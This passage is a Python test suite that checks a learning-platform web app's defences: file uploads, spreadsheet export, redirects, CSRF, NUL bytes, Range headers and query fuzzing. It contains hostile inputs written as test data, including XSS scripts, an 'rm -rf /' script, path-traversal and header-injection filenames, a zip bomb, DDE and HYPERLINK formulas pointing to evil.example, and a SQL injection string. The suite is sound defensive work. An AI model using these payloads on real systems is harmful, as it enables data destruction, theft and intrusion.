    return bytes(data)


def _many_entries() -> bytes:
    return _docx({f"word/p{i}.xml": b"" for i in range(uploads.MAX_ZIP_ENTRIES + 1)})


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200

REFUSED = [
    ("setup.pdf", EXE), ("setup.exe", EXE), ("setup.docx", EXE), ("tool.pdf", ELF), ("page.pdf", HTML),
    ("page.html", HTML), ("page.htm", HTML), ("page.PDF", HTML), ("image.svg", SVG), ("image.png", SVG),
    ("photo.jpg", HTML), ("run.sh", b"#!/bin/sh\nrm -rf /\n"),
    ("script.js", b"alert(1)"), ("x.pdf.exe", pdf_bytes()), ("noextension", pdf_bytes()), ("pdf", pdf_bytes()),
    ("macro.docx", _docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})), ("bomb.docx", b""),
    ("many.docx", b""), ("bare.docx", b""), ("slides.pptx", b""), ("empty.pdf", b""),
    ("archive.zip", b""), ("song.mp3", HTML), ("video.mp4", HTML),
]


def _refused_payload(name: str, data: bytes) -> bytes:
    return {"bomb.docx": _lying_zip_bomb, "many.docx": _many_entries,
            "bare.docx": lambda: _docx(content_types=False), "slides.pptx": _docx,
            "archive.zip": _docx}.get(name, lambda: data)()


def test_dangerous_uploads_are_refused(app, world, cat):
    client = login(app, world.trainer.email)
    path = f"/courses/teaching/{cat.a.id}/lessons/{cat.a_lesson.id}/materials/file"
    before = state()
    files_before = sorted(p for p in cat.storage.rglob("*") if p.is_file())
    for name, data in REFUSED:
        response = client.post(path, content_type="multipart/form-data",
                               data={"upload-file": (io.BytesIO(_refused_payload(name, data)), name)})
        assert response.status_code == 422, (name, response.status_code)
    assert state() == before
    assert sorted(p for p in cat.storage.rglob("*") if p.is_file()) == files_before  # nothing left on disk


INERT_NAMES = [
    ("../../../../etc/cron.d/evil.pdf", "evil.pdf"), ("..\\..\\windows\\win.pdf", "win.pdf"),
    ('a"; filename="evil.html.pdf', 'a"; filename="evil.html.pdf'), ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
    ("x\r\nSet-Cookie: pwn=1.pdf", None), ("/absolute/path.pdf", "path.pdf"), ("Tài liệu tiếng Việt.pdf", None),
]
POLYGLOT = b"%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n%%EOF\n"
MP3_HTML = b"\xff\xfb\x90\x00<html><script>alert(1)</script></html>"


def test_accepted_files_are_stored_under_generated_keys_and_served_inert(app, world, cat):
    owner = login(app, world.trainer.email)
    path = f"/courses/teaching/{cat.a.id}/lessons/{cat.a_lesson.id}/materials/file"
    uploads_ = [(name, pdf_bytes()) for name, _ in INERT_NAMES] + [
        ("poly.pdf", POLYGLOT), ("song.mp3", MP3_HTML), ("doc.docx", _docx({"word/x.html": HTML})),
        ("gif.gif", b"GIF89a" + HTML)]
    for name, data in uploads_:
        response = raw_upload(owner, path, name, data)
        assert response.status_code in (302, 400, 422), name
        for header, value in response.headers.items():
            # the name's "Set-Cookie: pwn=1" never becomes a header (the session cookie's random value
            # may happen to contain the letters "pwn": look for the injected cookie itself)
            assert "pwn" not in header.lower() and "pwn=1" not in value, name
    materials = _material(cat.a.id, cat.a_lesson.id, kind="file")[1:]  # (the fixture's own PDF first)
    assert len(materials) >= len(uploads_) - 1
    root = cat.storage.resolve()
    learner = login(app, world.trainee_u.email)
    for material in materials:
        name = material.original_name
        assert "/" not in name and "\\" not in name and "\r" not in name and "\n" not in name and "\u202e" not in name
        assert re.fullmatch(r"materials/[0-9a-f]{4}/[A-Za-z0-9_-]{32}\.[a-z0-9]+", material.storage_key)
        stored = (root / material.storage_key).resolve()
        assert root in stored.parents and stored.is_file()
        response = learner.get(f"/courses/{cat.a.id}/materials/{material.id}")
        assert response.status_code == 200, name
        assert response.mimetype in {k.mimetype for k in uploads.KINDS.values()}, name
        assert response.mimetype not in ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response.headers["Content-Security-Policy"]
        assert "default-src 'none'" in response.headers["Content-Security-Policy"]
        assert response.headers["Cross-Origin-Resource-Policy"] == "same-origin"
        kind, params = parse_options_header(response.headers["Content-Disposition"])
        assert kind in ("inline", "attachment")
        if "filename*" not in params:
            assert params["filename"] == name  # one parameter: the quotes inside the name did not split it
        if material.content_type.startswith("application/vnd.openxmlformats"):
            assert kind == "attachment"
    names = {m.original_name for m in materials}
    for sent, kept in INERT_NAMES:
        assert kept is None or kept in names, (sent, kept, names)
    poly = next(m for m in materials if m.original_name == "poly.pdf")
    assert poly.content_type == "application/pdf"


def test_oversized_bodies_are_refused_with_413(app_factory, world, cat):
    app = app_factory(MAX_CONTENT_LENGTH=1024 * 1024, LMS_MAX_UPLOAD_MB=1, LMS_MAX_VIDEO_MB=2)
    before = state()
    big = b"%PDF-1.4\n" + b"0" * (1024 * 1024 + 4096)
    path = f"/courses/teaching/{cat.a.id}/lessons/{cat.a_lesson.id}/materials/file"
    trainee = login(app, world.trainee_u.email)
    assert trainee.post(f"/courses/{cat.a.id}/enrol", data={"x": "0" * (1024 * 1024 + 10)}).status_code == 413
    assert trainee.post(path, content_type="multipart/form-data",
                        data={"upload-file": (io.BytesIO(big), "big.pdf")}).status_code == 413  # no larger limit
    other_trainer = login(app, cat.trainer_b.email)
    assert other_trainer.post(f"/courses/teaching/{cat.a.id}/sections",
                              data={"section-title": "x" * (1024 * 1024 + 10)}).status_code == 413
    owner = login(app, world.trainer.email)
    huge = b"%PDF-1.4\n" + b"0" * (2 * 1024 * 1024 + 4096)
    assert owner.post(path, content_type="multipart/form-data",
                      data={"upload-file": (io.BytesIO(huge), "huge.pdf")}).status_code == 413
    # within the video limit but over the limit for a PDF: refused by the service
    assert owner.post(path, content_type="multipart/form-data",
                      data={"upload-file": (io.BytesIO(big), "big.pdf")}).status_code == 422
    assert state() == before


def test_an_office_file_over_its_limit_is_refused_before_it_is_unzipped(app_factory, world, cat, monkeypatch):
    """Regression (open at 9d67420): ``add_file`` read the body up to ``LMS_MAX_VIDEO_MB`` and
    unzipped an Office file before applying its own limit, so any trainer could make the server
    parse a 500 MB central directory (gigabytes of ZipInfo objects). If this fails again, mark it
    ``xfail(strict=True, reason="VULN: ...")`` until fixed."""
    app = app_factory(MAX_CONTENT_LENGTH=1024 * 1024, LMS_MAX_UPLOAD_MB=1, LMS_MAX_VIDEO_MB=4)
    opened = []
    real = uploads._check_ooxml
    monkeypatch.setattr(uploads, "_check_ooxml", lambda source, name: (opened.append(name), real(source, name)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        for i in range(30_000):  # 1.5 MB of central directory and headers, 30 000 ZipInfo objects
            archive.writestr(f"word/{i}", b"")
    assert 1024 * 1024 < len(buffer.getvalue()) < 4 * 1024 * 1024
    owner = login(app, world.trainer.email)
    response = owner.post(f"/courses/teaching/{cat.a.id}/lessons/{cat.a_lesson.id}/materials/file",
                          content_type="multipart/form-data",
                          data={"upload-file": (io.BytesIO(buffer.getvalue()), "big.docx")})
    assert response.status_code == 422
    assert opened == []  # the 1 MB limit of a .docx is known from its name: no need to unzip it


# -- the learners export --------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def _xlsx_strings(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return " ".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml"))


def test_export_never_contains_a_formula(app, world, cat):
    import openpyxl

    db.session.execute(sa.update(Person).where(Person.id == world.trainee_u.id).values(full_name=FORMULAS[0]))
    db.session.execute(sa.update(Person).where(Person.id == world.trainee_u1.id).values(full_name=FORMULAS[1]))
    db.session.execute(sa.update(Person).where(Person.id == world.trainee_v.id).values(full_name=FORMULAS[4]))
    db.session.execute(sa.update(Unit).where(Unit.id == world.u.id).values(name=FORMULAS[2], code=FORMULAS[3]))
    db.session.execute(sa.update(Unit).where(Unit.id == world.u1.id).values(name=FORMULAS[5], code="=1"))
    db.session.execute(sa.update(Unit).where(Unit.id == world.v.id).values(name="@x", code="-1"))
    db.session.execute(sa.update(Course).where(Course.id == cat.a.id).values(title='=HYPERLINK("http://e")'))
    db.session.commit()
    for who in (world.trainer, world.ua, world.admin):
        response = login(app, who.email).get(f"/courses/{cat.a.id}/learners.xlsx")
        assert response.status_code == 200
        assert "<f>" not in _xlsx_strings(response.data), who.email
        sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
        values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert len(values) > 20
        for cell in values:
            assert cell.data_type != "f", (who.email, cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                # kept as typed, but shown literally (Excel's quote prefix), never evaluated
                assert cell.quotePrefix, (who.email, cell.coordinate, cell.value)


# -- open redirects -------------------------------------------------------------------------------

def _local(location: str) -> bool:
    parts = urlsplit(location)
    return (not parts.scheme and not parts.netloc and location.startswith("/") and not location.startswith("//")
            and "\\" not in location)


def test_course_routes_never_redirect_off_site(app, world, cat):
    owner = login(app, world.trainer.email)
    learner = login(app, world.trainee_u.email)
    t = f"/courses/teaching/{cat.a.id}"
    probes = [
        (owner, f"{t}/sections", {"section-title": "Phần mới"}), (owner, f"{t}/status", {"status": "published"}),
        (owner, f"{t}/sections/{cat.a_section.id}/edit", {"title": "Phần 1"}),
        (owner, f"{t}/lessons/{cat.a_lesson.id}/move", {"direction": "down"}),
        (owner, f"{t}/lessons/{cat.a_lesson.id}/materials/link",
         {"link-url": "https://example.org/", "link-title": "L"}),
        (owner, f"{t}/trainers", {"person_id": str(cat.trainer_b.id)}),
        (owner, f"/courses/{cat.a.id}/learners/enrol", {"mode": "people", "people-people": [str(cat.outsider.id)]}),
        (owner, f"/courses/{cat.a.id}/enrolments/{cat.enrol_v.id}/withdraw", {}),
        (learner, f"/courses/{cat.b.id}/enrol", {}),
        (learner, f"/courses/{cat.a.id}/lessons/{cat.a_lesson.id}/done", {}),
        (learner, f"/courses/{cat.a.id}/lessons/{cat.a_lesson.id}/undone", {}),
        (login(app, world.trainee_u1.email), f"/courses/{cat.b.id}/enrol", {}),
    ]
    for client, path, data in probes:
        for target in (EVIL, "https://evil.example/", "/\\evil.example", "javascript:alert(1)"):
            response = client.post(f"{path}?next={quote(target, safe='')}&return_to={quote(target, safe='')}",
                                   data={**data, "next": target, "return_to": target})
            assert response.status_code < 500, path
            if response.status_code in (301, 302, 303, 307, 308):
                assert _local(response.location), (path, response.location)
    # anonymous: sent to the log-in page with a local next, which takes them back here only
    anonymous = app.test_client()
    response = anonymous.get(f"/courses/{cat.a.id}/lessons/{cat.a_lesson.id}?next={quote(EVIL)}")
    assert response.status_code == 302 and response.location.startswith("/login")
    response = anonymous.post(response.location, data={"email": world.trainee_u.email, "password": TEST_PASSWORD})
    assert response.status_code == 302 and _local(response.location) and response.location.startswith("/courses/")
    _anonymous_visitors_get_nothing(app, world, cat)


def _anonymous_visitors_get_nothing(app, world, cat):
    anonymous = app.test_client()
    before = state()
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("courses."):
            continue
        values = {"course_id": cat.a.id, "section_id": cat.a_section.id, "lesson_id": cat.a_lesson.id,
                  "material_id": cat.a_pdf.id, "person_id": cat.co.id, "enrolment_id": cat.enrol_u.id,
                  "convention_id": 1, "content_id": 1}
        path = rule.rule
        for arg in rule.arguments:
            path = re.sub(rf"<(?:[^:<>]+:)?{arg}>", str(values[arg]), path)
        for method in sorted(rule.methods & {"GET", "POST"}):
            response = anonymous.open(path, method=method)
            assert response.status_code in (302, 401), (method, path)
            assert response.location is None or response.location.startswith("/login"), (method, path)
            assert b"%PDF" not in response.data and "Khóa A" not in text(response)
    assert state() == before


# -- CSRF -----------------------------------------------------------------------------------------

def test_every_courses_post_needs_the_sessions_csrf_token(app_factory, world, cat):
    app = app_factory(WTF_CSRF_ENABLED=True)
    admin = app.test_client()
    assert admin.post("/login", data={"email": world.admin.email, "password": TEST_PASSWORD,
                                      "csrf_token": csrf_token(admin)}).status_code == 302
    other = app.test_client()
    other.post("/login", data={"email": cat.outsider.email, "password": TEST_PASSWORD, "csrf_token": csrf_token(other)})
    foreign = csrf_token(other, "/courses/")
    before = state()
    requests = [r for r in requests_for(cat, cat.a, cat.a_section, cat.a_lesson, cat.a_pdf, person_id=cat.co.id,
                                        enrolment_id=cat.enrol_v.id, attacker=cat.trainer_b) if r[1] == "POST"]
    requests += [
        ("courses.teaching_new", "POST", "/courses/teaching/new", {"title": "Khóa giả mạo"}),
        ("courses.enrol", "POST", f"/courses/{cat.b.id}/enrol", {}),
        ("courses.mark_done", "POST", f"/courses/{cat.a.id}/lessons/{cat.a_lesson.id}/done", {}),
        ("courses.mark_not_done", "POST", f"/courses/{cat.a.id}/lessons/{cat.a_lesson.id}/undone", {}),
        ("courses.edit_convention", "POST", "/courses/reference/conventions/1",
         {"name_vi": "Giả", "name_en": "Fake", "adopted_year": "1966", "vn_party_year": "1982"}),
        ("courses.edit_content", "POST", "/courses/reference/contents/1", {"name_vi": "Giả", "name_en": "Fake"}),
    ]
    posts = {r.endpoint for r in app.url_map.iter_rules() if r.endpoint.startswith("courses.") and "POST" in r.methods}
    assert {endpoint for endpoint, *_ in requests if endpoint.startswith("courses.")} == posts
    for endpoint, _, path, data in requests:
        for token in (None, foreign):  # (empty and forged tokens: tests/security/test_sessions.py)
            fields = dict(data) if token is None else {**data, "csrf_token": token}
            fields = {k: ((io.BytesIO(pdf_bytes()), v[1]) if isinstance(v, tuple) else v) for k, v in fields.items()}
            response = _send(admin, "POST", path, fields)
            assert response.status_code == 400, (endpoint, token, response.status_code)
    assert state() == before
    # the session's own token works (the refusals above were about the token)
    own = csrf_token(admin, f"/courses/teaching/{cat.a.id}")
    assert admin.post(f"/courses/teaching/{cat.a.id}/sections",
                      data={"section-title": "Phần thật", "csrf_token": own}).status_code == 302


# -- robustness: NUL bytes, huge ids, odd query strings, Range -------------------------------------

def test_huge_ids_and_nul_bytes_never_crash(app, world, cat):
    _huge_ids_never_crash(app, world, cat)
    _nul_bytes_never_crash(app, world, cat)


def _huge_ids_never_crash(app, world, cat):
    client = login(app, world.admin.email)
    checked = 0
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("courses.") or not rule.arguments:
            continue
        for odd in (HUGE, str(2**63)):
            path = rule.rule
            for arg in rule.arguments:
                path = re.sub(rf"<(?:[^:<>]+:)?{arg}>", odd, path)
            for method in sorted(rule.methods & {"GET", "POST"}):
                response = client.open(path, method=method)
                assert response.status_code in (400, 404, 405), (method, path, response.status_code)
                checked += 1
        # one real id, the other huge (the second lookup is the one that could overflow)
        if len(rule.arguments) == 2:
            path = rule.rule.replace("<int:course_id>", str(cat.a.id))
            path = re.sub(r"<int:[a-z_]+>", HUGE, path)
            for method in sorted(rule.methods & {"GET", "POST"}):
                assert client.open(path, method=method).status_code == 404, path
    assert checked > 60
    assert client.post(f"/courses/teaching/{cat.a.id}/trainers", data={"person_id": HUGE}).status_code == 422
    assert client.post(f"/courses/{cat.a.id}/learners/enrol", data={"mode": "people",
                                                                   "people-people": [HUGE]}).status_code == 422
    assert client.post(f"/courses/{cat.a.id}/learners/enrol", data={"mode": "unit",
                                                                   "unit-unit": HUGE}).status_code == 422
    assert client.post("/courses/teaching/new", data={"title": "X", "conventions": [HUGE], "contents": ["-1"],
                                                      "audiences": ["x"], "credited_hours": "1e999"}).status_code == 422
    assert client.post(f"/courses/teaching/{cat.a.id}/lessons/{cat.a_lesson.id}",
                       data={"title": "X", "minutes": HUGE, "conventions": [HUGE]}).status_code == 422
    assert client.post(f"/courses/{cat.a.id}/learners/enrol", data={
        "mode": "people", "people-people": [str(world.trainee_u.id)],
        "people-due_on": "99999-01-01"}).status_code == 422


def _nul_bytes_never_crash(app, world, cat):
    client = login(app, world.trainer.email)
    for path in ("/courses/?q=a%00b", "/courses/?convention=%00", "/courses/?audience=%00&content=%00",
                 f"/courses/{cat.a.id}/learners?q=%00", f"/courses/{cat.a.id}/learners.xlsx?q=a%00",
                 f"/courses/{cat.a.id}/learners/enrol?q=%00", f"/courses/teaching/{cat.a.id}/trainers?q=%00",
                 f"/courses/{cat.a.id}%00", "/courses/teaching%00",
                 f"/courses/{cat.a.id}/materials/{cat.a_pdf.id}%00"):
        assert client.get(path).status_code == 400, path
    before = state()
    t = f"/courses/teaching/{cat.a.id}"
    for path, data in (("/courses/teaching/new", {"title": "a\x00b"}),
                       (f"{t}/edit", {"title": "A", "summary": "\x00"}),
                       (f"{t}/sections", {"section-title": "\x00"}),
                       (f"{t}/lessons/{cat.a_lesson.id}", {"title": "x", "body": "a\x00b"}),
                       (f"{t}/lessons/{cat.a_lesson.id}/materials/link",
                        {"link-url": "https://example.org/\x00", "link-title": "x"}),
                       (f"{t}/trainers", {"person_id": "1\x00"}), (f"{t}/status", {"status": "published\x00"}),
                       (f"/courses/{cat.a.id}/learners/enrol", {"mode": "people\x00", "people-people": ["1"]})):
        assert client.post(path, data=data).status_code == 400, path
    assert state() == before
    # a NUL in an uploaded file's name (not a form field: the door does not see it)
    response = client.post(f"{t}/lessons/{cat.a_lesson.id}/materials/file", content_type="multipart/form-data",
                           data={"upload-file": (io.BytesIO(pdf_bytes()), "a\x00b.pdf"), "upload-title": ""})
    assert response.status_code in (302, 400, 422)
    for material in _material(cat.a.id, cat.a_lesson.id, kind="file"):
        assert "\x00" not in material.original_name and "\x00" not in material.title
    # a NUL inside an enrolment list's cells
    csv = "Thư điện tử\r\nhv1@example.vn\x00\r\n\x00\r\n".encode()
    response = client.post(f"/courses/{cat.a.id}/learners/enrol", content_type="multipart/form-data",
                           data={"mode": "file", "file-file": (io.BytesIO(csv), "ds.csv")})
    assert response.status_code < 500


RANGES = [
    "bytes=0-1,2-3", "bytes=" + ",".join(f"{i}-{i}" for i in range(5000)), "bytes=0-0," * 200 + "0-0",
    "bytes=-1", "bytes=-0", "bytes=0-99999999999999999999999", "bytes=99999999999999999999-",
    "bytes=-99999999999999999999", "bytes=5-1", "bytes=--1", "bytes=-1-2", "items=0-1", "bytes=abc", "bytes=",
    "bytes=0-", "bytes=1-1", "bytes= 0-1", "bytes=0x10-0x20", "bytes=1e3-2e3", "bytes=٣-٤", "bytes=0-1;evil",
    "bytes=0-1\u0085", "bytes=" + "9" * 5000 + "-", "bytes=0-1, 1-2, 2-3",
]


def test_range_header_abuse_on_materials(app, world, cat):
    client = login(app, world.trainee_u.email)
    url = f"/courses/{cat.a.id}/materials/{cat.a_pdf.id}"
    size = cat.a_pdf.size
    for value in RANGES:
        for extra in ({}, {"If-Range": '"x"'}) if value in RANGES[:6] else ({},):
            try:
                response = client.get(url, headers={"Range": value, **extra})
            except (ValueError, UnicodeEncodeError):
                continue  # (a header the client itself cannot send)
            assert response.status_code in (200, 206, 416), (value, response.status_code)
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert "sandbox" in response.headers["Content-Security-Policy"]
            assert len(response.data) <= size, value  # never more than the file (no multipart amplification)
            if response.status_code == 206:
                start, stop, total = map(int, re.fullmatch(r"bytes (\d+)-(\d+)/(\d+)",
                                                           response.headers["Content-Range"]).groups())
                assert 0 <= start <= stop < total == size and len(response.data) == stop - start + 1
            if response.status_code == 416:
                assert response.headers["Content-Range"] == f"bytes */{size}"
    # no range served to someone who may not read the file
    assert login(app, cat.outsider.email).get(url, headers={"Range": "bytes=0-10"}).status_code == 404


ODD_QUERIES = [
    "page=0", "page=-1", f"page={HUGE}", "page=abc", "page=1e9", "page=", "page=1&page=2", "q=" + "a" * 10000,
    "q=%25%25%25", "q=_", "q=%5C", "q=%5C%25", "q=" + "+".join("ab" for _ in range(100)), "q=%F0%9F%92%A9",
    "q=%ED%A0%80", "q=%FF%FE", "q[]=x", "q=a&q=b", "convention=ICCPR%27--", "convention=crc",
    f"content={HUGE}", "content=-1", "content=1.5", "audience=__class__", "audience=legal_reporter&audience=x",
    "status=draft", "status=withdrawn", "status=%27", f"unit={HUGE}", "unit=-1", "unit=abc",
    "sort=;DROP TABLE courses", "per_page=100000", "download=1",
]


def test_query_string_fuzz_never_crashes(app, world, cat):
    client = login(app, world.ua.email)
    owner = login(app, world.trainer.email)
    for n, query in enumerate(ODD_QUERIES):
        paths = [(client, "/courses/")] + ([(client, f"/courses/{cat.a.id}/learners")] if n % 2 == 0 else [])
        if n % 5 == 0:  # (the other screens read the same arguments the same way: every fifth one)
            paths += [(client, f"/courses/{cat.a.id}/learners.xlsx"), (client, f"/courses/{cat.a.id}/learners/enrol"),
                      (client, "/courses/my"), (owner, "/courses/teaching"),
                      (owner, f"/courses/teaching/{cat.a.id}/trainers")]
        for who, path in paths:
            response = who.get(f"{path}?{query}")
            assert response.status_code == 200, (path, query, response.status_code)
    # the catalogue never lists a draft whatever the filter
    for query in ("q=Nhap", "q=Khoa+Nhap", "status=draft&q=Nhap", "q=%25", "q=_", "status=draft", "draft=1"):
        assert "Khóa Nháp" not in text(client.get(f"/courses/?{query}")), query


